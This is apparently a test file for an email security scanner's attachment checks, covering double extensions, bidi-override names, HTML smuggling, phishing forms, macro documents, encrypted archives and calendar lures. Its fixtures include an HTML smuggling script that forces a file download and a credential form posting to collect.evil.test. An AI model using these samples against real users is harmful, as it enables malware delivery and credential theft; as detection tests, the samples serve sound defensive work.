/**
 * Attachment signals, from names and from bytes. Containers (zip, OOXML, OLE, RAR) are built by
 * hand in a few bytes: only the structures the checks read.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Budget, DEFAULT_LIMITS } from '../../src/core/index.js';
import { attachmentSignals } from '../../src/email/attachments.js';
import { extractFacts } from '../../src/email/extract.js';
import { analyzeEmail, prepareEmailEnv } from '../../src/email/index.js';
import { resolveConfig } from '../../src/config/index.js';
import { nameInfo, sniff, zipEntries } from '../../src/email/attachments.js';
import { eml, type EmlAttachment, type EmlOptions } from '../helpers/eml.js';
import { signal, expectAbsent, expectFires } from '../helpers/verdict.js';

const config = resolveConfig({ organization: { name: 'Fabrikam', domains: ['fabrikam.example'] } });
const scan = (o: EmlOptions) => analyzeEmail(eml(o), { config, scorer: null });
const withFile = (a: EmlAttachment, o: EmlOptions = {}) =>
  scan({ subject: 'Documents', text: 'Please see attached.', ...o, attachments: [a] });

/** A stored (uncompressed) zip with a central directory; `encrypted` sets general-purpose bit 0. */
function zip(files: { name: string; data?: string; encrypted?: boolean }[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, 'utf8');
    const data = Buffer.from(f.data ?? 'x');
    const flags = f.encrypted ? 1 : 0;
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(flags, 6);
    lh.writeUInt32LE(data.length, 18);
    lh.writeUInt32LE(data.length, 22);
    lh.writeUInt16LE(name.length, 26);
    const local = Buffer.concat([lh, name, data]);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(flags, 8);
    ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    centrals.push(Buffer.concat([ch, name]));
    locals.push(local);
    offset += local.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(files.length, 8);
  eocd.writeUInt16LE(files.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, cd, eocd]));
}
const OLE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const ole = (...streams: string[]) =>
  new Uint8Array(
    Buffer.concat([Buffer.from(OLE), Buffer.alloc(504), ...streams.map((s) => Buffer.from(s, 'utf16le'))]),
  );
const OOXML = (extra: string[] = []) =>
  zip([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }, ...extra.map((name) => ({ name }))]);
const PDF = '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n';
const MZ = new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04]);

describe('names and bytes helpers', () => {
  it('reads double extensions, padding and bidi overrides', () => {
    expect(nameInfo('invoice.pdf.exe')).toMatchObject({ ext: 'exe', prev: 'pdf' });
    expect(nameInfo('invoice.pdf                        .exe').padded).toBe(true);
    expect(nameInfo('Invoice_\u202Efdp.exe')).toMatchObject({
      ext: 'exe',
      bidi: true,
      shown: 'Invoice_exe.pdf',
    });
    expect(nameInfo('report.exe. . ').ext).toBe('exe');
  });
  it('sniffs magic bytes and lists zip entries', () => {
    expect(sniff(MZ)).toBe('pe');
    expect(sniff(new TextEncoder().encode(PDF))).toBe('pdf');
    expect(zipEntries(zip([{ name: 'a.txt' }, { name: 'b/c.js', encrypted: true }]))).toEqual([
      { name: 'a.txt', encrypted: false },
      { name: 'b/c.js', encrypted: true },
    ]);
  });
});

describe('email.attachment.dangerous_type', () => {
  const ID = 'email.attachment.dangerous_type';
  it.each([
    'setup.exe',
    'run.js',
    'update.vbs',
    'shortcut.lnk',
    'disk.iso',
    'notes.one',
    'tool.hta',
    'script.ps1',
  ])('fires on %s', async (filename) => {
    // (a text that does not hand the file over: a disk image or shortcut that one does is critical)
    const v = await withFile({ filename, content: 'x' }, { text: 'Hello.' });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      category: 'malware_delivery',
      evidence: [{ where: `attachment:${filename}` }],
    });
  });
  it('stays silent for a plain PDF and an .xlsx without macros', async () => {
    const v = await scan({
      attachments: [
        { filename: 'statement.pdf', contentType: 'application/pdf', content: PDF },
        {
          filename: 'budget.xlsx',
          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          content: OOXML(),
        },
      ],
    });
    expectAbsent(v, ID);
    for (const s of v.signals) expect(s.id).not.toMatch(/^email\.attachment\./);
  });
});

describe('email.attachment.double_extension', () => {
  const ID = 'email.attachment.double_extension';
  it('is critical for invoice.pdf.exe', async () => {
    const v = await withFile({ filename: 'invoice.pdf.exe', content: MZ });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'critical',
      evidence: [{ where: 'attachment:invoice.pdf.exe' }],
    });
  });
  it('is critical for a bidi override that shows .pdf', async () => {
    const v = await withFile({ filename: 'Invoice_\u202Efdp.scr', content: MZ });
    expect(expectFires(v, ID).severity).toBe('critical');
    expect(expectFires(v, ID).message).toContain('shown as');
  });
  it('is high for statement.pdf.html', async () => {
    const v = await withFile({
      filename: 'statement.pdf.html',
      contentType: 'text/html',
      content: '<p>hello</p>',
    });
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('stays silent for archive.tar.gz and report.2024.pdf', async () => {
    const v = await scan({
      attachments: [
        { filename: 'archive.tar.gz', content: 'x' },
        { filename: 'report.2024.pdf', content: PDF },
      ],
    });
    expectAbsent(v, ID);
  });
});

describe('email.attachment.type_mismatch', () => {
  const ID = 'email.attachment.type_mismatch';
  it('is critical for a "pdf" that is an MZ executable', async () => {
    const v = await withFile({ filename: 'scan.pdf', contentType: 'application/pdf', content: MZ });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'critical',
      evidence: [{ where: 'attachment:scan.pdf' }],
    });
  });
  it('is high for a "pdf" that is HTML', async () => {
    const v = await withFile({
      filename: 'scan.pdf',
      contentType: 'application/pdf',
      content: '<!DOCTYPE html><html><body>x</body></html>',
    });
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('stays silent for a real PDF and a real PNG', async () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]);
    const v = await scan({
      attachments: [
        { filename: 'a.pdf', content: PDF },
        { filename: 'logo.png', contentType: 'image/png', content: png },
      ],
    });
    expectAbsent(v, ID);
  });
});

describe('email.attachment.html_smuggling', () => {
  const ID = 'email.attachment.html_smuggling';
  it('is critical on atob + Blob + a forced download: a file assembled in the page and saved', async () => {
    const html = `<html><body><script>var b=atob("${'QUJD'.repeat(10)}");var blob=new Blob([b]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download="invoice.iso";a.click();</script></body></html>`;
    const v = await withFile({ filename: 'invoice.html', contentType: 'text/html', content: html });
    const s = expectFires(v, ID);
    expect(s).toMatchObject({ severity: 'critical', evidence: [{ where: 'attachment:invoice.html' }] });
    expect(s!.message).toContain('atob');
  });
  it('stays high for a page that decodes a blob but saves nothing (a report with embedded data)', async () => {
    const html = `<html><body><script>var b=atob("${'QUJD'.repeat(10)}");var img=URL.createObjectURL(new Blob([b]));document.body.innerHTML='<img src="'+img+'">';</script></body></html>`;
    const v = await withFile({ filename: 'report.html', contentType: 'text/html', content: html });
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('fires on a script redirect', async () => {
    const v = await withFile({
      filename: 'Remittance.htm',
      contentType: 'text/html',
      content: '<script>window.location.href="https://login.evil.test/?e=bob"</script>',
    });
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('stays silent for a saved receipt without scripts', async () => {
    const v = await withFile({
      filename: 'receipt.html',
      contentType: 'text/html',
      content: '<html><body><h1>Receipt</h1><p>Total: 12.00</p></body></html>',
    });
    expectAbsent(v, ID);
    expectAbsent(v, 'email.attachment.html_credential_form');
  });
});

describe('email.attachment.html_credential_form', () => {
  const ID = 'email.attachment.html_credential_form';
  it('is critical with a password field', async () => {
    const html =
      '<html><body><form action="https://collect.evil.test/p" method="post"><input name="email"><input type="password" name="pw"><button>Sign in</button></form></body></html>';
    const v = await withFile({ filename: 'Secure_Message.html', contentType: 'text/html', content: html });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'critical',
      category: 'credential_harvest',
      evidence: [{ where: 'attachment:Secure_Message.html' }],
    });
  });
});

describe('email.attachment.macro_office', () => {
  const ID = 'email.attachment.macro_office';
  it('fires on an OOXML zip holding vbaProject.bin even when named .xlsx', async () => {
    const v = await withFile({ filename: 'budget.xlsx', content: OOXML(['xl/vbaProject.bin']) });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [{ where: 'attachment:budget.xlsx' }],
    });
  });
  it('fires on an OLE .doc with a VBA project', async () => {
    const v = await withFile({
      filename: 'order.doc',
      contentType: 'application/msword',
      content: ole('Root Entry', 'Macros', 'VBA', '_VBA_PROJECT'),
    });
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('is medium on a .docm name alone', async () => {
    const v = await withFile({ filename: 'form.docm', content: 'x' });
    expect(expectFires(v, ID).severity).toBe('medium');
  });
  it('stays silent for an OLE .doc without VBA', async () => {
    const v = await withFile({
      filename: 'old.doc',
      content: ole('Root Entry', 'WordDocument', 'SummaryInformation'),
    });
    expectAbsent(v, ID);
  });
});

describe('email.attachment.encrypted_archive', () => {
  const ID = 'email.attachment.encrypted_archive';
  it('fires on an encrypted zip, high with the password in the body, and records a skip', async () => {
    const v = await withFile(
      {
        filename: 'statement.zip',
        contentType: 'application/zip',
        content: zip([{ name: 'statement.pdf', encrypted: true }]),
      },
      { text: 'The archive password is: 4471' },
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [{ where: 'attachment:statement.zip' }],
    });
    expect(v.skipped.some((s) => s.what.includes('statement.zip') && /encrypted/.test(s.why))).toBe(true);
  });
  it('fires on a RAR5 archive with encrypted headers', async () => {
    const rar5 = new Uint8Array([
      0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, 1, 2, 3, 4, 0x0c, 0x04, 0, 0,
    ]);
    const v = await withFile({ filename: 'docs.rar', content: rar5 });
    expect(expectFires(v, ID).severity).toBe('medium');
  });
  it('fires on a password-protected Office document', async () => {
    const v = await withFile({ filename: 'salary.xlsx', content: ole('EncryptedInfo', 'EncryptedPackage') });
    expectFires(v, ID);
  });
  it('is low (context) when the message says the password comes another way', async () => {
    const v = await withFile(
      {
        filename: 'tax_docs.zip',
        contentType: 'application/zip',
        content: zip([{ name: 'P60.pdf', encrypted: true }]),
      },
      {
        text: "I've put them in an encrypted zip file. I'll text you the password separately on your mobile.",
      },
    );
    expect(expectFires(v, ID).severity).toBe('low');
    expect(v.verdict).toBe('clean');
  });
  it('stays silent for an ordinary zip', async () => {
    const v = await withFile({
      filename: 'photos.zip',
      content: zip([{ name: 'a.jpg' }, { name: 'b.jpg' }]),
    });
    expectAbsent(v, ID);
    expectAbsent(v, 'email.attachment.archive_executable');
  });
});

describe('email.attachment.archive_executable', () => {
  const ID = 'email.attachment.archive_executable';
  it('is high for a zip holding a script', async () => {
    const v = await withFile({
      filename: 'docs.zip',
      content: zip([{ name: 'readme.txt' }, { name: 'Invoice_0042.js' }]),
    });
    const s = expectFires(v, ID);
    expect(s).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:docs.zip' }] });
    expect(s!.message).toContain('Invoice_0042.js');
  });
  it('is critical for a zip holding invoice.pdf.exe', async () => {
    const v = await withFile({ filename: 'docs.zip', content: zip([{ name: 'invoice.pdf.exe' }]) });
    expect(expectFires(v, ID).severity).toBe('critical');
  });
});

describe('email.attachment.calendar_lure', () => {
  const ID = 'email.attachment.calendar_lure';
  const ics = (description: string, url?: string) =>
    [
      'BEGIN:VCALENDAR',
      'VERSION:2.0',
      'METHOD:REQUEST',
      'BEGIN:VEVENT',
      'UID:1@sender.example',
      'DTSTART:20250603T100000Z',
      'SUMMARY:Quarterly review',
      `DESCRIPTION:${description}`,
      ...(url ? [`URL:${url}`] : []),
      'END:VEVENT',
      'END:VCALENDAR',
      '',
    ].join('\r\n');
  it('fires critical when that link is on a free hosting platform (a "data room" sign-in on netlify.app)', async () => {
    const v = await withFile({
      filename: 'invite.ics',
      contentType: 'text/calendar',
      content: ics(
        'Board pre-read: please sign in to the data room: https://northlight-dataroom.netlify.app/',
      ),
    });
    expect(expectFires(v, ID).severity).toBe('critical');
    // the same words beside the company's own page stay high
    const own = await withFile({
      filename: 'invite.ics',
      contentType: 'text/calendar',
      content: ics('Board pre-read: please sign in to the data room: https://dataroom.northlight.test/'),
    });
    expect(expectFires(own, ID).severity).toBe('high');
  });
  it('fires high on an invite with a verify link', async () => {
    const v = await withFile({
      filename: 'invite.ics',
      contentType: 'text/calendar',
      content: ics('Your mailbox password expires today. Verify here: https://m365-verify.test/login'),
    });
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      category: 'phishing',
      evidence: [{ where: 'attachment:invite.ics' }],
    });
  });
  it('fires on a callback number next to a refund', async () => {
    const v = await withFile({
      filename: 'invite.ics',
      contentType: 'text/calendar',
      content: ics('Your subscription renewal of $499 was charged. For a refund call +1 808 555 0142.'),
    });
    expect(expectFires(v, ID).message).toContain('callback number');
  });
  it('stays silent for a real Teams invite with a dial-in number', async () => {
    const desc =
      'Join the meeting now: https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc\\nDial in by phone +1 323-555-0100,,12345# United States';
    const v = await withFile({
      filename: 'invite.ics',
      contentType: 'text/calendar',
      content: ics(desc, 'https://zoom.us/j/123456'),
    });
    expectAbsent(v, ID);
  });
});

describe('hostile archives', () => {
  it('survives lying length fields and 2 MB of repeated signatures', async () => {
    const lying = zip([{ name: 'a.exe' }]);
    new DataView(lying.buffer).setUint16(lying.length - 12, 0xffff, true); // entry count
    new DataView(lying.buffer).setUint32(lying.length - 6, 0xfffffff0, true); // CD offset
    const sigs = new Uint8Array(Buffer.alloc(2 * 1024 * 1024, Buffer.from([0x50, 0x4b, 0x03, 0x04])));
    const html = `<script>${`${'A'.repeat(1999)}!`.repeat(500)}${' location '.repeat(10_000)}</script>`;
    const v = await scan({
      attachments: [
        { filename: 'x.zip', content: lying },
        { filename: 'y.zip', content: sigs },
        { filename: 'z.html', contentType: 'text/html', content: html },
      ],
    });
    // a central directory that claims 65,535 entries yields the one real entry; 2 MB of local-header
    // signatures yields at most the entry cap (2,000), not 500,000 entries
    expect(zipEntries(lying).map((e) => e.name)).toEqual(['a.exe']);
    expect(zipEntries(sigs).length).toBeLessThanOrEqual(2000);
    // the checks still see the executable inside the lying archive (called directly: the scan's
    // time budget may legitimately stop a loaded machine before the attachment stage)
    const facts = await extractFacts(
      eml({
        attachments: [
          { filename: 'x.zip', content: lying },
          { filename: 'z.html', contentType: 'text/html', content: html },
        ],
      }),
      't',
      new Budget(DEFAULT_LIMITS),
    );
    const out = attachmentSignals(facts, { ...prepareEmailEnv(config), budget: new Budget(DEFAULT_LIMITS) });
    expect(expectFires(out, 'email.attachment.archive_executable').evidence[0]).toMatchObject({
      where: 'attachment:x.zip',
    });
    // the scan returned a verdict; whatever it did not reach, it says so
    if (!signal(v, 'email.attachment.archive_executable'))
      expect(v.skipped.map((x) => x.why)).toContainEqual(expect.stringMatching(/^limit /));
  });
});

describe('properties', () => {
  it('never throws on arbitrary bytes under any name (fixed seed)', async () => {
    const facts = await extractFacts(eml({ text: 'x' }), 't', new Budget(DEFAULT_LIMITS));
    const env = prepareEmailEnv(config);
    const names = ['a.zip', 'a.rar', 'a.7z', 'a.doc', 'a.xlsx', 'a.pdf', 'a.html', 'a.ics', 'a.pdf.exe', ''];
    const magic = [
      [0x50, 0x4b, 0x03, 0x04],
      [0x50, 0x4b, 0x05, 0x06],
      [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00],
      [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00],
      [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
      [],
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.constantFrom(...magic),
        fc.uint8Array({ maxLength: 600 }),
        (filename, head, body) => {
          const content = new Uint8Array([...head, ...body]);
          const a = {
            filename,
            mimeType: 'application/octet-stream',
            disposition: 'attachment',
            size: content.length,
            content,
          };
          const out = attachmentSignals(
            { ...facts, attachments: [a] },
            { ...env, budget: new Budget(DEFAULT_LIMITS) },
          );
          // only attachment signals, one per id (merged), each with the attachment as evidence
          expect(new Set(out.map((s) => s.id)).size).toBe(out.length);
          for (const s of out) {
            expect(s.id).toMatch(/^email\.attachment\./);
            expect(s.evidence.length).toBeGreaterThan(0);
          }
        },
      ),
      { seed: 20261129, numRuns: 2000 },
    );
  });
});
